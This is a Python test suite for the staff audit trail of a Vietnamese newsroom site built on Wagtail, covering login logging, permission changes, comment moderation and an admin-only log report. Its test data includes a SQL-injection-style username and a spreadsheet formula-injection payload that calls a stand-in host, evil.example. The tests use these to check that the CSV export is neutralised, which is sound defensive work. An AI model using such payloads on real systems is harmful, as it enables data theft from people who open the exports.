"""The staff audit trail: every action on content, users and comments is a Wagtail log entry
with the right actor, action and object, and administrators (only) can search it."""

import re

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core import mail
from django.test import TestCase
from django.urls import reverse
from django_otp.plugins.otp_totp.models import TOTPDevice
from wagtail.log_actions import LogContext
from wagtail.models import GroupPagePermission, ModelLogEntry, PageLogEntry

from toasoan.comments import moderation
from toasoan.comments.models import Comment
from toasoan.news.tests.factories import make_article, make_home, make_section
from toasoan.newsroom import roles

LOGIN = "/quan-tri/login/"
REPORT = "/quan-tri/bao-cao/nhat-ky-quan-tri/"
PASSWORD = "mat-khau-thu-nghiem-2026"
IP = "203.0.113.77"


def entries(action, **filters):
    return ModelLogEntry.objects.filter(action=action, **filters).order_by("-pk")


def make_user(username, role=None, section=None, **extra):
    user = get_user_model().objects.create_user(
        username, f"{username}@toasoan.test", PASSWORD, **extra
    )
    if role:
        roles.grant(user, role, section)
    return user


class _AuditCase(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.home = make_home()
        cls.section = make_section(cls.home, "Thời sự")
        cls.article = make_article(cls.section, title="Bài có bình luận")
        cls.admin = make_user("quantri_nhom", roles.ADMIN)  # "Quản trị" group, not superuser
        cls.superuser = get_user_model().objects.create_superuser(
            "sieuquantri", "sq@toasoan.test", PASSWORD
        )
        cls.chief = make_user("tongbientap_a", roles.CHIEF)
        cls.editor = make_user("bientap_a", roles.EDITOR, cls.section)
        cls.moderator = make_user("kiemduyet_a", roles.MODERATOR)

    def login_form(self, username, password, ip=IP):
        return self.client.post(LOGIN, {"username": username, "password": password}, REMOTE_ADDR=ip)


class TestLoginEntries(_AuditCase):
    def test_successful_login_names_the_user_and_address(self):
        self.assertEqual(self.login_form("bientap_a", PASSWORD).status_code, 302)
        entry = entries("toasoan.login.success").get()
        self.assertEqual(entry.user, self.editor)
        self.assertEqual(entry.object_id, str(self.editor.pk))
        self.assertEqual(entry.data["ip"], IP)
        self.assertIn(IP, entry.message)

    def test_wrong_password_is_logged_against_the_account(self):
        self.login_form("bientap_a", "sai-mat-khau")
        entry = entries("toasoan.login.failed").get()
        self.assertEqual(entry.user, self.editor)
        self.assertEqual(entry.label, "bientap_a")
        self.assertEqual(entry.data["ip"], IP)
        self.assertEqual(entry.data["username"], "bientap_a")
        self.assertIn("Đăng nhập sai", entry.message)

    def test_unknown_user_name_is_logged_with_what_was_typed(self):
        self.login_form("admin' OR 1=1", "x", ip="198.51.100.9")
        entry = entries("toasoan.login.failed").get()
        self.assertIsNone(entry.user)
        self.assertEqual(entry.label, "admin' OR 1=1")
        self.assertEqual(entry.data["ip"], "198.51.100.9")

    def test_lockout_then_refused_attempts(self):
        for _ in range(5):
            self.login_form("bientap_a", "sai")
        self.assertEqual(entries("toasoan.login.failed").count(), 4)
        lock = entries("toasoan.login.lockout").get()
        self.assertEqual(lock.user, self.editor)
        response = self.login_form("bientap_a", PASSWORD)
        self.assertEqual(response.status_code, 429)
        refused = entries("toasoan.login.refused").get()
        self.assertEqual(refused.user, self.editor)
        self.assertEqual(refused.data["ip"], IP)
        self.assertFalse(entries("toasoan.login.success").exists())

    def test_logout(self):
        self.login_form("bientap_a", PASSWORD)
        self.client.post("/quan-tri/logout/", REMOTE_ADDR=IP)
        entry = entries("toasoan.logout").get()
        self.assertEqual(entry.user, self.editor)
        self.assertEqual(entry.data["ip"], IP)


class TestUserEntries(_AuditCase):
    def user_edit_data(self, user, **extra):
        data = {
            "username": user.username,
            "email": user.email,
            "first_name": "Biên",
            "last_name": "Tập",
            "password1": "",
            "password2": "",
            "is_active": "on",
            "groups": [g.pk for g in user.groups.all()],
        }
        data.update(extra)
        return data

    def test_admin_edits_groups_and_password_in_the_admin(self):
        self.client.force_login(self.admin)
        chief_group = Group.objects.get(name="Tổng biên tập")
        new_password = "mat-khau-moi-rat-dai-2026"
        data = self.user_edit_data(
            self.editor,
            groups=[*self.editor.groups.values_list("pk", flat=True), chief_group.pk],
            password1=new_password,
            password2=new_password,
        )
        url = reverse("wagtailusers_users:edit", args=[self.editor.pk])
        response = self.client.post(url, data, REMOTE_ADDR=IP)
        self.assertEqual(
            response.status_code,
            302,
            getattr(response, "context", None)
            and response.context.get("form")
            and response.context["form"].errors,
        )
        edit = entries("wagtail.edit", object_id=str(self.editor.pk)).first()
        self.assertEqual(edit.user, self.admin)
        self.assertEqual(edit.data["ip"], IP)  # Wagtail's own entries get the address too
        groups = entries("toasoan.user.groups", object_id=str(self.editor.pk)).first()
        self.assertEqual(groups.user, self.admin)
        self.assertEqual(groups.data["added"], ["Tổng biên tập"])
        self.assertEqual(groups.data["ip"], IP)
        self.assertIn("Thêm vào nhóm: Tổng biên tập", groups.message)
        password = entries("toasoan.user.password_set", object_id=str(self.editor.pk)).get()
        self.assertEqual(password.user, self.admin)

    def test_admin_creates_and_deletes_a_user(self):
        self.client.force_login(self.superuser)
        data = {
            "username": "phongvien_moi",
            "email": "pvm@toasoan.test",
            "first_name": "Phóng",
            "last_name": "Viên",
            "password1": "mat-khau-moi-rat-dai-2026",
            "password2": "mat-khau-moi-rat-dai-2026",
            "is_active": "on",
            "groups": [Group.objects.get(name="Phóng viên").pk],
        }
        response = self.client.post(reverse("wagtailusers_users:add"), data)
        self.assertEqual(response.status_code, 302)
        user = get_user_model().objects.get(username="phongvien_moi")
        self.assertEqual(
            entries("wagtail.create", object_id=str(user.pk)).get().user, self.superuser
        )
        self.assertEqual(
            entries("toasoan.user.groups", object_id=str(user.pk)).get().data["added"],
            ["Phóng viên"],
        )
        response = self.client.post(reverse("wagtailusers_users:delete", args=[user.pk]))
        self.assertEqual(response.status_code, 302)
        deleted = entries("wagtail.delete", object_id=str(user.pk)).get()
        self.assertEqual(deleted.user, self.superuser)
        self.assertEqual(deleted.label, str(user))

    def test_bulk_deactivate_and_delete_users(self):
        victim = make_user("tam_thoi")
        self.client.force_login(self.superuser)
        url = f"/quan-tri/bulk/core/user/set_active_state/?id={victim.pk}"
        self.client.post(url, {"mark_as_active": "False"})
        self.assertEqual(entries("toasoan.user.deactivate").get().object_id, str(victim.pk))
        self.client.post(f"/quan-tri/bulk/core/user/delete/?id={victim.pk}")
        self.assertFalse(get_user_model().objects.filter(pk=victim.pk).exists())
        deleted = entries("wagtail.delete", object_id=str(victim.pk)).get()
        self.assertEqual(deleted.user, self.superuser)

    def test_password_changed_by_the_user_themself(self):
        with LogContext(user=self.editor):
            self.editor.set_password("mat-khau-cua-toi-2026")
            self.editor.save()
        entry = entries("toasoan.user.password_change").get()
        self.assertEqual(entry.user, self.editor)
        self.assertEqual(entry.object_id, str(self.editor.pk))

    def test_password_reset_by_email_link(self):
        self.client.post("/quan-tri/password_reset/", {"email": self.editor.email})
        self.assertEqual(len(mail.outbox), 1)
        link = re.search(r"/quan-tri/password_reset/confirm/\S+/", mail.outbox[0].body).group(0)
        response = self.client.get(link, follow=True)
        new = "mat-khau-dat-lai-2026"
        self.client.post(
            response.redirect_chain[-1][0],
            {"new_password1": new, "new_password2": new},
            REMOTE_ADDR=IP,
        )
        self.editor.refresh_from_db()
        self.assertTrue(self.editor.check_password(new))
        entry = entries("toasoan.user.password_reset").get()
        self.assertEqual(entry.user, self.editor)
        self.assertEqual(entry.data["ip"], IP)

    def test_group_and_page_permission_changes(self):
        group = Group.objects.create(name="Nhóm thử")
        permission = Permission.objects.get(
            content_type__app_label="comments", codename="change_comment"
        )
        with LogContext(user=self.admin):
            group.permissions.add(permission)
            GroupPagePermission.objects.create(
                group=group, page=self.section, permission_type="publish"
            )
            group.permissions.remove(permission)
            self.editor.user_permissions.add(permission)
        added, removed = entries("toasoan.group.permissions", object_id=str(group.pk)).order_by(
            "pk"
        )
        self.assertEqual(added.data["added"], ["comments.change_comment"])
        self.assertEqual(removed.data["removed"], ["comments.change_comment"])
        self.assertEqual(added.user, self.admin)
        page_perm = entries("toasoan.group.page_permissions", object_id=str(group.pk)).get()
        self.assertEqual(page_perm.data["added"], ["publish_page @ Thời sự"])
        user_perm = entries("toasoan.user.permissions", object_id=str(self.editor.pk)).get()
        self.assertIn("Cấp quyền: comments.change_comment", user_perm.message)

    def test_role_granted_on_the_command_line_is_logged_as_system(self):
        from django.core.management import call_command

        call_command("newsroom_grant", "kiemduyet_a", "tongbientap", stdout=open("/dev/null", "w"))
        entry = entries("toasoan.user.groups", object_id=str(self.moderator.pk)).first()
        self.assertIsNone(entry.user)
        self.assertEqual(entry.data["added"], ["Tổng biên tập"])


class TestTwoFactorEntries(_AuditCase):
    def test_enable_and_disable(self):
        with LogContext(user=self.admin):
            device = TOTPDevice.objects.create(user=self.admin, name="Điện thoại", confirmed=False)
            self.assertFalse(entries("toasoan.2fa.enable").exists())  # not yet confirmed
            device.confirmed = True
            device.save(update_fields=["confirmed"])
            device.delete()
        on = entries("toasoan.2fa.enable").get()
        off = entries("toasoan.2fa.disable").get()
        for entry in (on, off):
            self.assertEqual(entry.object_id, str(self.admin.pk))
            self.assertEqual(entry.user, self.admin)
        self.assertEqual(on.label, "quantri_nhom")


class TestCommentEntries(_AuditCase):
    def setUp(self):
        self.comments = [
            Comment.objects.create(page=self.article, name=f"Bạn đọc {n}", body=f"Ý kiến số {n}")
            for n in range(4)
        ]

    def bulk(self, action, comments):
        ids = "&".join(f"id={c.pk}" for c in comments)
        return self.client.post(f"/quan-tri/bulk/comments/comment/{action}/?{ids}", {})

    def test_bulk_approve_reject_spam_by_the_moderator(self):
        self.client.force_login(self.moderator)
        self.bulk("approve", self.comments[:2])
        self.bulk("reject", self.comments[2:3])
        self.bulk("spam", self.comments[3:])
        approved = entries("toasoan.comment.approve")
        self.assertEqual(
            sorted(approved.values_list("object_id", flat=True)),
            sorted(str(c.pk) for c in self.comments[:2]),
        )
        self.assertEqual(set(approved.values_list("user", flat=True)), {self.moderator.pk})
        self.assertEqual(
            entries("toasoan.comment.reject").get().object_id, str(self.comments[2].pk)
        )
        self.assertEqual(entries("toasoan.comment.spam").get().object_id, str(self.comments[3].pk))

    def test_bulk_delete_is_logged_before_the_rows_go(self):
        self.client.force_login(self.moderator)
        self.bulk("delete", self.comments[:2])
        self.assertEqual(
            Comment.objects.filter(pk__in=[c.pk for c in self.comments[:2]]).count(), 0
        )
        deleted = entries("wagtail.delete")
        self.assertEqual(deleted.count(), 2)
        self.assertEqual(deleted.first().user, self.moderator)

    def test_single_edit_with_a_status_change_and_delete(self):
        self.client.force_login(self.moderator)
        comment = self.comments[0]
        url = reverse("comments_admin:edit", args=[comment.pk])
        data = {"status": "approved", "name": comment.name, "email": "", "body": "Đã sửa chính tả"}
        self.assertEqual(self.client.post(url, data).status_code, 302)
        self.assertEqual(
            entries("wagtail.edit", object_id=str(comment.pk)).get().user, self.moderator
        )
        self.assertEqual(
            entries("toasoan.comment.approve", object_id=str(comment.pk)).get().user,
            self.moderator,
        )
        self.client.post(reverse("comments_admin:delete", args=[comment.pk]))
        self.assertEqual(
            entries("wagtail.delete", object_id=str(comment.pk)).get().user, self.moderator
        )

    def test_official_reply(self):
        reply = moderation.post_official_reply(self.comments[0], "Cảm ơn bạn đọc.", self.chief)
        self.assertEqual(entries("toasoan.comment.reply").get().object_id, str(reply.pk))
        # Replying approves the parent: that decision is logged too.
        self.assertEqual(
            entries("toasoan.comment.approve").get().object_id, str(self.comments[0].pk)
        )


class TestContentEntries(_AuditCase):
    def test_site_settings_change_is_logged_by_wagtail(self):
        from toasoan.comments.models import CommentModerationSettings

        self.client.force_login(self.admin)
        setting = CommentModerationSettings.load()
        url = reverse(
            "wagtailsettings:edit", args=["comments", "commentmoderationsettings", setting.pk]
        )
        data = {"auto_approve_after": "5", "max_links": "1", "held_words": "quảng cáo"}
        self.assertEqual(self.client.post(url, data).status_code, 302)
        self.assertEqual(entries("wagtail.edit", object_id=str(setting.pk)).get().user, self.admin)

    def test_section_and_article_actions_are_page_log_entries(self):
        with LogContext(user=self.chief):
            self.article.save_revision(user=self.chief).publish(user=self.chief)
        entry = PageLogEntry.objects.filter(page=self.article, action="wagtail.publish").first()
        self.assertEqual(entry.user, self.chief)


class TestAuditReport(_AuditCase):
    def setUp(self):
        self.login_form("bientap_a", "sai", ip="192.0.2.123")
        self.login_form("khong_ton_tai", "sai", ip="198.51.100.200")
        Comment.objects.create(page=self.article, name="Bạn đọc", body="Ý kiến")
        with LogContext(user=self.moderator):
            moderation.set_status(Comment.objects.all(), "approved", self.moderator)

    def report(self, user, **params):
        self.client.force_login(user)
        return self.client.get(REPORT, params)

    def test_administrators_see_every_kind_of_entry(self):
        for user in (self.admin, self.superuser):
            html = self.report(user).content.decode()
            self.assertIn("Nhật ký quản trị", html)
            self.assertIn("192.0.2.123", html)
            self.assertIn("khong_ton_tai", html)
            self.assertIn("Duyệt bình luận", html)

    def test_search_by_address_user_name_and_object(self):
        html = self.report(self.admin, q="192.0.2.123").content.decode()
        self.assertIn("bientap_a", html)
        self.assertNotIn("198.51.100.200", html)
        html = self.report(self.admin, q="khong_ton").content.decode()
        self.assertIn("198.51.100.200", html)
        self.assertNotIn("192.0.2.123", html)
        html = self.report(self.admin, q="kiemduyet_a").content.decode()  # the actor
        self.assertIn("Duyệt bình luận", html)
        self.assertNotIn("192.0.2.123", html)
        html = self.report(self.admin, q="không có gì như thế này").content.decode()
        self.assertIn("Không có mục nào", html)

    def test_filter_by_action(self):
        html = self.report(self.admin, action="toasoan.login.failed").content.decode()
        self.assertIn("192.0.2.123", html)
        self.assertNotIn("Duyệt bình luận</td>", html)

    def test_results_fragment_and_export(self):
        self.client.force_login(self.admin)
        response = self.client.get(REPORT + "ket-qua/", {"q": "192.0.2.123"})
        self.assertContains(response, "192.0.2.123")
        response = self.client.get(REPORT, {"export": "csv", "q": "192.0.2.123"})
        self.assertEqual(response.status_code, 200)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        self.assertIn("192.0.2.123", body.decode("utf-8-sig"))

    def test_csv_export_neutralises_formulas(self):
        """#23: a login attempt with the user name =HYPERLINK(…) landed as a live formula
        in the CSV export an administrator opens in Excel."""
        import csv
        import io

        payload = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
        for name in (payload, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"):
            self.login_form(name, "sai", ip="198.51.100.66")
        self.client.force_login(self.admin)
        response = self.client.get(REPORT, {"export": "csv", "q": "198.51.100.66"})
        body = b"".join(response.streaming_content) if response.streaming else response.content
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        self.assertIn("'" + payload, cells)
        for cell in cells:
            self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell)

    def test_editors_moderators_and_the_chief_are_refused(self):
        for user in (self.editor, self.moderator, self.chief):
            response = self.report(user)
            self.assertEqual(response.status_code, 302, user.username)
            self.assertNotIn(REPORT, response["Location"])
            response = self.client.get(REPORT + "ket-qua/")
            self.assertIn(response.status_code, (302, 403))

    def test_menu_item_only_for_administrators(self):
        self.client.force_login(self.admin)
        self.assertIn(REPORT, self.client.get("/quan-tri/").content.decode())
        self.client.force_login(self.chief)
        self.assertNotIn(REPORT, self.client.get("/quan-tri/").content.decode())

    def test_stock_site_history_does_not_show_logins_to_the_chief(self):
        self.client.force_login(self.chief)
        html = self.client.get(reverse("wagtailadmin_reports:site_history")).content.decode()
        self.assertNotIn("khong_ton_tai", html)
        self.assertNotIn("Đăng nhập sai", html)


def test_every_toasoan_action_has_a_vietnamese_label():
    from wagtail.log_actions import registry

    codes = [code for code, _label in registry.get_choices() if code.startswith("toasoan.")]
    assert len(codes) >= 20
    for code in codes:
        label = str(registry.get_action_label(code))
        assert label and not label.isascii(), code  # Vietnamese, with diacritics
